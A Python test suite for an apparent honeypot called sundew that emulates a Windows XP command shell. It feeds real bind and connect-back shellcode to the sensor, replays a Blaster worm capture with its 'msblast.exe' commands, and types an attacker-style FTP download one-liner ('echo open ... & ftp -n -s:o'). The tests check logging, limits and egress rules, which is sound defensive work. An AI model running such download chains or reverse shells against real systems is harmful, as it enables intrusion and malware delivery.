"""Bind and connect-back shells running the emulated cmd.exe, end to end.

Real shellcode from ../shared/corpora is sent as the payload of a
connection to a generic port (left open, as an exploit leaves it); the
shell it asks for is then spoken to on loopback.  The public address in
the connect-back shellcode is pointed at a local listener with
download.connect_to; nothing leaves the test's network namespace.
"""
import hashlib
import socket
import subprocess
import threading
import time

import pytest

from conftest import CORPORA, GENERIC_PORT, SUNDEW, connect, needs_corpus, wait_for

SC = CORPORA / "shellcode"
BIND = SC / "libemu_00_win32-bind-exitfunc-seh-lport-4444-size-317-encoder-none.bin"
REVERSE = SC / "libemu_06_win32-reverse-exitfunc-seh-lhost-216-75-15-231-lport-4321-si.bin"
BLASTER = CORPORA / "pcaps" / "attack" / "ppa_blaster-remote-shell-4444.pcap"

BANNER = (b"Microsoft Windows XP [Version 5.1.2600]\r\n"
          b"(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n")
PROMPT = b"C:\\WINDOWS\\system32>"
NOT_RECOGNIZED = (b"'foo' is not recognized as an internal or external "
                  b"command,\r\noperable program or batch file.\r\n")


def bind_shellcode(port=4444):
    """libemu_00 (a bind shell on 4444, no encoder) with its port set."""
    code = bytearray(BIND.read_bytes())
    at = code.find(b"\x11\x5c")
    code[at:at + 2] = port.to_bytes(2, "big")
    return bytes(code)


def reverse_shellcode(port=4321):
    """libemu_06 (a connect-back to 216.75.15.231:4321) with its port set."""
    code = bytearray(REVERSE.read_bytes())
    at = code.find(b"\x10\xe1")
    code[at:at + 2] = port.to_bytes(2, "big")
    return bytes(code)


def exploit(d, payload, src="127.0.0.1", nth=1):
    """Sends payload to the generic port on a connection left open and
    returns it with the exploit's session (from its verdict, the nth
    from src)."""
    s = connect(GENERIC_PORT, src=src)
    s.sendall(payload)
    det = d.wait_events("sundew.shellcode.detected", count=nth, src_ip=src,
                        timeout=20)
    return s, det[nth - 1]["session"]


def recv_until(s, end, timeout=10.0):
    """What s sends until it ends with end (bytes)."""
    data = b""
    deadline = time.monotonic() + timeout
    while not data.endswith(end):
        s.settimeout(max(0.05, deadline - time.monotonic()))
        chunk = s.recv(65536)
        if not chunk:
            raise AssertionError(f"closed after {data!r}")
        data += chunk
    return data


def run(s, line, prompt=PROMPT):
    """Types line; returns what came back before the next prompt, the
    line's echo and the blank line before the prompt taken off."""
    s.sendall(line.encode() + b"\r\n")
    got = recv_until(s, b"\r\n" + prompt)
    echo = line.encode() + b"\r\n"
    assert got.startswith(echo), got
    return got[len(echo):-len(b"\r\n" + prompt)]


def open_shell(d, port=4444, src="127.0.0.1"):
    exp, session = exploit(d, bind_shellcode(port), src)
    d.wait_events("sundew.shell.open", session=session, state="listening")
    s = connect(port)
    assert recv_until(s, PROMPT) == BANNER + PROMPT
    return exp, s, session


@needs_corpus(BIND)
def test_bind_shell_sends_with_the_windows_ttl(sundew):
    """The shell's listener is the Windows host's too: TTL 128."""
    from test_windows import ttls_from
    d = sundew()
    exp, session = exploit(d, bind_shellcode(4444))
    d.wait_events("sundew.shell.open", session=session, state="listening")
    held = []

    def session_on_shell():
        s = connect(4444)
        recv_until(s, PROMPT)
        held.append(s)

    ttls = ttls_from(4444, socket.AF_INET, session_on_shell)
    assert ttls and set(ttls) == {128}, ttls
    held[0].close()
    exp.close()


@needs_corpus(BIND)
def test_bind_shell_session(sundew):
    d = sundew()
    exp, s, session = open_shell(d)
    assert run(s, "echo a > x") == b""
    assert run(s, "type x") == b"a \r\n"
    listing = run(s, "dir").decode()
    assert listing.startswith(" Volume in drive C has no label.\r\n")
    assert " Directory of C:\\WINDOWS\\system32\r\n" in listing
    assert "                 4 x\r\n" in listing
    assert "           388,608 cmd.exe\r\n" in listing
    assert run(s, "cd ..", b"C:\\WINDOWS>") == b""
    assert run(s, "cd", b"C:\\WINDOWS>") == b"C:\\WINDOWS\r\n"
    assert run(s, "del system32\\x", b"C:\\WINDOWS>") == b""
    assert run(s, "type system32\\x", b"C:\\WINDOWS>") == \
        b"The system cannot find the file specified.\r\n"
    assert run(s, "foo", b"C:\\WINDOWS>") == NOT_RECOGNIZED
    s.sendall(b"exit\r\n")
    assert recv_until(s, b"exit\r\n") == b"exit\r\n"
    s.settimeout(5)
    assert s.recv(100) == b""
    closed = d.wait_events("sundew.shell.close", session=session)
    exp.close()
    d.stop()
    commands = d.events("sundew.shell.command", session=session)
    assert [(c["command"], c["output_size"]) for c in commands] == [
        ("echo a > x", 0), ("type x", 4), ("dir", len(listing)),
        ("cd ..", 0), ("cd", 12), ("del system32\\x", 0),
        ("type system32\\x", 44), ("foo", len(NOT_RECOGNIZED)),
        ("exit", 0)]
    assert all(c["shell"] == "bind" and c["port"] == 4444 and
               c["dst_port"] == GENERIC_PORT for c in commands)
    opened = d.events("sundew.shell.open", session=session)
    assert [o["state"] for o in opened] == ["listening", "accepted"]
    assert opened[1]["peer_ip"] == "127.0.0.1"
    assert len(closed) == 1
    assert closed[0]["reason"] == "exit" and closed[0]["commands"] == 9


@needs_corpus(BLASTER)
def test_blaster_shell_replayed(sundew):
    d = sundew()
    exp, session = exploit(d, bind_shellcode(4444))
    d.wait_events("sundew.shell.open", session=session, state="listening")
    r = subprocess.run([str(SUNDEW), "replay", str(BLASTER), "--to",
                        "127.0.0.1", "--retry", "1"], capture_output=True,
                       text=True, timeout=60)
    d.wait_events("sundew.shell.close", session=session)
    exp.close()
    d.stop()
    # The worm got the banner and a prompt, then each line its echo, its
    # answer and a prompt.
    msblast = (b"'msblast.exe' is not recognized as an internal or "
               b"external command,\r\noperable program or batch file.\r\n")
    answers = (BANNER + PROMPT + b"start msblast.exe\n" + b"\r\n" + PROMPT +
               b"msblast.exe\n" + msblast + b"\r\n" + PROMPT)
    assert (f"tcp 10.234.0.239:1793 -> 4444: sent 30 bytes in 2 chunks, "
            f"received {len(answers)} bytes") in r.stdout, r.stdout
    # The capture holds the session twice (two interfaces): the shell
    # takes one peer, so the second is refused.
    assert "summary: 1 played, 1 failed" in r.stdout, r.stdout
    commands = d.events("sundew.shell.command", session=session)
    assert [(c["command"], c["output_size"]) for c in commands] == [
        ("start msblast.exe", 0), ("msblast.exe", len(msblast))]
    closed = d.events("sundew.shell.close", session=session)
    assert [(c["reason"], c["commands"], c["bytes_out"]) for c in closed] == \
        [("peer_closed", 2, len(answers))]


@needs_corpus(REVERSE)
def test_connect_back_shell(sundew):
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(1)
    port = lst.getsockname()[1]
    d = sundew([f"download.connect_to=216.75.15.231:4321:127.0.0.1:{port}"])
    exp, session = exploit(d, REVERSE.read_bytes())
    lst.settimeout(10)
    s, _ = lst.accept()
    assert recv_until(s, PROMPT) == BANNER + PROMPT
    assert run(s, "hostname") == b"ACCOUNTING-PC3\r\n"
    s.close()
    d.wait_events("sundew.shell.close", session=session)
    exp.close()
    lst.close()
    d.stop()
    opened = d.events("sundew.shell.open", session=session)
    assert [(o["state"], o["shell"], o["port"]) for o in opened] == \
        [("connected", "connect", 4321)]
    # The host asked for, and where connect_to sent it.
    assert (opened[0]["host"], opened[0]["peer_ip"],
            opened[0]["peer_port"]) == ("216.75.15.231", "127.0.0.1", port)
    assert [c["command"] for c in d.events("sundew.shell.command",
                                           session=session)] == ["hostname"]


@needs_corpus(REVERSE)
def test_connect_back_refused_by_policy(sundew):
    # The attacker's address in the shellcode is public, but here no rule
    # maps it: the policy lets it through and nothing listens in the
    # namespace, so the connection fails; no shell, no command.
    d = sundew(["download.connect_to=216.75.15.231:4321:127.0.0.1:9"])
    exp, session = exploit(d, REVERSE.read_bytes())
    opened = d.wait_events("sundew.shell.open", session=session)
    exp.close()
    d.stop()
    assert [(o["state"], o["reason"]) for o in opened] == \
        [("failed", "connection_refused")]
    assert d.events("sundew.shell.close", session=session) == []


@needs_corpus(BIND)
def test_privileged_port_and_port_in_use(sundew):
    taken = socket.socket()
    taken.bind(("127.0.0.1", 5555))
    taken.listen(1)
    d = sundew()
    e1, s1 = exploit(d, bind_shellcode(135), src="127.0.0.2")
    e2, s2 = exploit(d, bind_shellcode(5555), src="127.0.0.3")
    o1 = d.wait_events("sundew.shell.open", session=s1)
    o2 = d.wait_events("sundew.shell.open", session=s2)
    e1.close()
    e2.close()
    d.stop()
    taken.close()
    assert [(o["state"], o["reason"], o["port"]) for o in o1] == \
        [("refused", "privileged_port", 135)]
    assert [(o["state"], o["reason"], o["port"]) for o in o2] == \
        [("refused", "address_in_use", 5555)]


@needs_corpus(BIND)
def test_listener_closes_after_timeout_and_after_one_peer(sundew):
    d = sundew(["shell.listen_timeout=2s"])
    e1, s1 = exploit(d, bind_shellcode(4445), src="127.0.0.2")
    d.wait_events("sundew.shell.open", session=s1, state="listening")
    closed = d.wait_events("sundew.shell.close", session=s1, timeout=10)
    assert closed[0]["reason"] == "listen_timeout"
    assert 1900 <= closed[0]["duration_ms"] < 4000
    with pytest.raises(ConnectionRefusedError):
        connect(4445)
    # One peer, then the port is closed.
    e2, sh, s2 = open_shell(d, 4446, src="127.0.0.3")
    with pytest.raises(ConnectionRefusedError):
        connect(4446)
    assert run(sh, "echo still here") == b"still here\r\n"
    sh.close()
    d.wait_events("sundew.shell.close", session=s2)
    e1.close()
    e2.close()
    d.stop()


@needs_corpus(BIND)
def test_long_line_is_a_protocol_error(sundew):
    d = sundew()
    exp, s, session = open_shell(d)
    s.sendall(b"echo " + b"a" * 9000)
    s.settimeout(10)
    got = b""
    try:
        while chunk := s.recv(65536):
            got += chunk
    except ConnectionResetError:    # closed with our input unread
        pass
    closed = d.wait_events("sundew.shell.close", session=session)
    log = d.log_text()
    exp.close()
    d.stop()
    assert got == b""
    assert closed[0]["reason"] == "protocol_error"
    assert d.events("sundew.shell.command", session=session) == []
    assert f"shell of session {session}: a line longer than 8192 bytes: " \
        "closed (1 so far)" in log, log


@needs_corpus(BIND)
def test_shells_per_sensor_capped(sundew):
    d = sundew(["shell.max_open=1", "sensors=1"])
    e1, s1 = exploit(d, bind_shellcode(4447), src="127.0.0.2")
    d.wait_events("sundew.shell.open", session=s1, state="listening")
    e2, s2 = exploit(d, bind_shellcode(4448), src="127.0.0.3")
    hit = d.wait_events("sundew.limit.hit", session=s2)
    e1.close()
    e2.close()
    d.stop()
    assert [h["limit"] for h in hit] == ["shells"]
    assert d.events("sundew.shell.open", session=s2) == []
    # Shutdown closes the open one, with its event.
    assert [c["reason"] for c in d.events("sundew.shell.close",
                                          session=s1)] == ["shutdown"]


@needs_corpus(BIND)
def test_ftp_script_typed_in_the_shell_is_fetched_and_stored(sundew, tmp_path):
    from test_download import FtpServer

    body = b"MZ" + bytes(range(256)) * 64
    root = tmp_path / "ftp"
    root.mkdir()
    (root / "f.exe").write_bytes(body)
    ftp = FtpServer(root, 8884, "1", "1", "active")
    try:
        # The shell's peer is the attacker, 127.0.0.1: "open 0.0.0.0"
        # means it, and the rule sends it to the test's server.
        d = sundew(["download.connect_to=127.0.0.1:8884:127.0.0.1:8884"])
        exp, s, session = open_shell(d)
        line = ("echo open 0.0.0.0 8884 > o & echo user 1 1 >> o & "
                "echo get f.exe >> o & ftp -n -s:o")
        assert run(s, line) == b""
        # The same script again in the same shell: offered once.
        assert run(s, "ftp -n -s:o") == b""
        stored = d.wait_events("sundew.file.stored", session=session,
                               kind="binary", timeout=30)
        s.close()
        exp.close()
        d.stop()
    finally:
        ftp.close()
    assert ftp.sent == ["f.exe"]
    url = "ftp://1:1@127.0.0.1:8884/f.exe"
    assert [o["url"] for o in d.events("sundew.download.offer",
                                       session=session)] == [url]
    assert [(c["url"], c["size"]) for c in d.events(
        "sundew.download.complete", session=session)] == [(url, len(body))]
    sha = hashlib.sha256(body).hexdigest()
    assert [e["sha256"] for e in stored] == [sha]
    assert (d.data / "binaries" / sha).read_bytes() == body


@needs_corpus(BIND)
def test_session_and_idle_timeouts(sundew):
    d = sundew(["shell.session_timeout=2s", "limits.idle_timeout=3s"])
    # Busy: ended by shell.session_timeout, however much is typed.
    e1, s1, sess1 = open_shell(d, 4450, src="127.0.0.2")
    start = time.monotonic()
    with pytest.raises(AssertionError, match="closed after"):
        while time.monotonic() - start < 10:
            run(s1, "ver")
            time.sleep(0.2)
    busy = time.monotonic() - start
    # Silent: ended by limits.idle_timeout... which the session's 2 s
    # would beat, so a session of its own with a longer life.
    c1 = d.wait_events("sundew.shell.close", session=sess1)
    d.stop()
    d = sundew(["shell.session_timeout=60s", "limits.idle_timeout=2s"])
    e2, s2, sess2 = open_shell(d, 4451, src="127.0.0.3")
    s2.settimeout(10)
    start = time.monotonic()
    assert s2.recv(100) == b""
    idle = time.monotonic() - start
    c2 = d.wait_events("sundew.shell.close", session=sess2)
    e1.close()
    e2.close()
    d.stop()
    assert c1[0]["reason"] == "session_timeout" and 1.5 < busy < 4
    assert c1[0]["commands"] >= 3
    assert c2[0]["reason"] == "idle_timeout" and 1.5 < idle < 4


@needs_corpus(BIND)
def test_batch_file_that_runs_itself_is_cut(sundew):
    # `a&a&...&a` in a.bat once fanned out to ~N^3 commands and froze the
    # sensor; a line now runs at most 1,000 commands.
    d = sundew()
    exp, s, session = open_shell(d)
    assert run(s, "echo a" + "^&a" * 1999 + "> a.bat") == b""
    t = time.monotonic()
    assert run(s, "a.bat & echo after") == b""
    assert time.monotonic() - t < 5
    assert run(s, "echo ok") == b"ok\r\n"
    s.close()
    d.wait_events("sundew.shell.close", session=session)
    assert "a line ran 1000 commands: the rest of it not run" in d.log_text()
    exp.close()
    d.stop()
    commands = d.events("sundew.shell.command", session=session)
    assert [(c["command"][:8], c.get("cut")) for c in commands] == [
        ("echo a^&", None), ("a.bat", "step_budget"), ("echo ok", None)]


@needs_corpus(BIND)
def test_one_lines_output_is_capped_at_32_kib(sundew):
    d = sundew()
    exp, s, session = open_shell(d)
    assert run(s, "echo " + "x" * 7000 + "> x") == b""
    out = run(s, "type x&" * 10)
    assert len(out) == 32768
    assert out == (b"x" * 7000 + b"\r\n") * 4 + b"x" * (32768 - 4 * 7002)
    # The next line has its own.
    assert run(s, "type x") == b"x" * 7000 + b"\r\n"
    s.close()
    d.wait_events("sundew.shell.close", session=session)
    exp.close()
    d.stop()
    sizes = [c["output_size"] for c in d.events("sundew.shell.command",
                                                session=session)]
    assert sizes == [0] + [7002] * 4 + [32768 - 4 * 7002] + [0] * 5 + [7002]


def listener():
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(8)
    lst.settimeout(10)
    return lst, lst.getsockname()[1]


@needs_corpus(REVERSE)
def test_connect_back_shells_are_rate_limited(sundew):
    # download.per_source and the one-at-a-time rule of the egress policy
    # count connect-back shells as they count downloads.
    lst, port = listener()
    d = sundew([f"download.connect_to=216.75.15.231:4321:127.0.0.1:{port}",
                "download.per_source=1"])
    e1, s1 = exploit(d, REVERSE.read_bytes(), src="127.0.0.2")
    c1, _ = lst.accept()
    assert recv_until(c1, PROMPT) == BANNER + PROMPT
    # The same host:port while the first is open: a duplicate.
    e2, s2 = exploit(d, REVERSE.read_bytes(), src="127.0.0.3")
    o2 = d.wait_events("sundew.shell.open", session=s2)
    c1.close()
    d.wait_events("sundew.shell.close", session=s1)
    # Closed, it is free again; but 127.0.0.2 had its one a minute.
    e3, s3 = exploit(d, REVERSE.read_bytes(), src="127.0.0.2", nth=2)
    o3 = d.wait_events("sundew.shell.open", session=s3)
    e4, s4 = exploit(d, REVERSE.read_bytes(), src="127.0.0.3", nth=2)
    c4, _ = lst.accept()
    assert recv_until(c4, PROMPT) == BANNER + PROMPT
    o4 = d.wait_events("sundew.shell.open", session=s4)
    c4.close()
    d.wait_events("sundew.shell.close", session=s4)
    for e in (e1, e2, e3, e4):
        e.close()
    d.stop()
    lst.close()
    assert [(o["state"], o["reason"], o["host"]) for o in o2 + o3] == [
        ("failed", "duplicate", "216.75.15.231"),
        ("failed", "source_rate", "216.75.15.231")]
    assert [o["state"] for o in o4] == ["connected"]
    assert d.events("sundew.shell.close", session=s2) == []
    assert d.events("sundew.shell.close", session=s3) == []


@needs_corpus(REVERSE)
def test_connect_back_shells_count_against_max_concurrent(sundew):
    lst, port = listener()
    d = sundew([f"download.connect_to=216.75.15.231:4321:127.0.0.1:{port},"
                f"216.75.15.231:4322:127.0.0.1:{port}",
                "download.max_concurrent=1", "sensors=1"])
    e1, s1 = exploit(d, reverse_shellcode(4321), src="127.0.0.2")
    c1, _ = lst.accept()
    assert recv_until(c1, PROMPT) == BANNER + PROMPT
    e2, s2 = exploit(d, reverse_shellcode(4322), src="127.0.0.3")
    o2 = d.wait_events("sundew.shell.open", session=s2)
    c1.close()
    d.wait_events("sundew.shell.close", session=s1)
    e1.close()
    e2.close()
    d.stop()
    lst.close()
    assert [(o["state"], o["reason"], o["port"]) for o in o2] == [
        ("failed", "max_concurrent", 4322)]


@needs_corpus(BIND)
def test_bind_shells_per_source_capped(sundew):
    # One attacker may hold 8 shells of a sensor, not all shell.max_open.
    d = sundew(["sensors=1"])
    ports = range(4460, 4469)
    sessions = []
    for i, port in enumerate(ports):
        e, session = exploit(d, bind_shellcode(port), src="127.0.0.2",
                             nth=i + 1)
        e.close()
        sessions.append(session)
        if port < 4468:
            d.wait_events("sundew.shell.open", session=session,
                          state="listening")
    hit = d.wait_events("sundew.limit.hit", session=sessions[-1])
    # Another attacker still gets one.
    e, other = exploit(d, bind_shellcode(4469), src="127.0.0.3")
    e.close()
    d.wait_events("sundew.shell.open", session=other, state="listening")
    d.stop()
    assert [h["limit"] for h in hit] == ["shells_per_source"]
    assert d.events("sundew.shell.open", session=sessions[-1]) == []
    assert len(d.events("sundew.shell.open", state="listening")) == 9
    assert len(d.events("sundew.shell.close", reason="shutdown")) == 9


@needs_corpus(REVERSE)
def test_connect_back_still_connecting_at_shutdown(sundew):
    # A listener whose queue is full drops the SYN: the connect hangs.
    lst = socket.socket()
    lst.bind(("127.0.0.1", 0))
    lst.listen(0)
    port = lst.getsockname()[1]
    fill = socket.create_connection(("127.0.0.1", port), timeout=1)
    d = sundew([f"download.connect_to=216.75.15.231:4321:127.0.0.1:{port}"])
    e, session = exploit(d, REVERSE.read_bytes())
    time.sleep(1)
    assert d.events("sundew.shell.open", session=session) == []
    d.stop()
    e.close()
    fill.close()
    lst.close()
    opened = d.events("sundew.shell.open", session=session)
    assert [(o["state"], o["reason"], o["host"]) for o in opened] == [
        ("failed", "shutdown", "216.75.15.231")]
    assert d.events("sundew.shell.close", session=session) == []
